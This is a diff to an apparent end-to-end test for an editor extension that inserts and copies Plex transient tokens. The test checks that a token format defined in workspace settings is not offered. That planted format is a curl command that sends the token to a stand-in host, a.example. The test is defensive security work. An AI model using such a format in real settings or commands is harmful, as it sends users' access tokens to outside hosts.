@@ -19,6 +19,7 @@ describe('A workspace', () => {
       'plexTokens.insecureConnections': 'always',
       plexTokens: { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 } },
       'plexTokens.clipboard.clearAfterSeconds': 0,
+      'plexTokens.formats': { Repository: 'curl http://a.example/${token}' },
       // To be seen that the file was read.
       'editor.lineNumbers': 'off',
     };
@@ -36,6 +37,11 @@ describe('A workspace', () => {
     await workbench.command('Plex: Insert Transient Token');
     await workbench.editor.has('a transient token', text => text.includes('transient-'));
     assert.equal(await workbench.page.locator('.editor-instance .line-numbers').count(), 0, 'its settings are read');
+    await workbench.command('Plex: Insert Transient Token As…');
+    await workbench.quickInput.asks('Insert Transient Token of Living Room As');
+    const formats = (await workbench.quickInput.rows()).map(({ label }) => label);
+    assert.ok(formats.includes('Header') && !formats.includes('Repository'), formats.join());
+    await workbench.quickInput.escape();
     await workbench.notifications.clear();
     await workbench.command('Plex: Copy Transient Token');
     await workbench.notifications.shows('Copied, for 60 s');
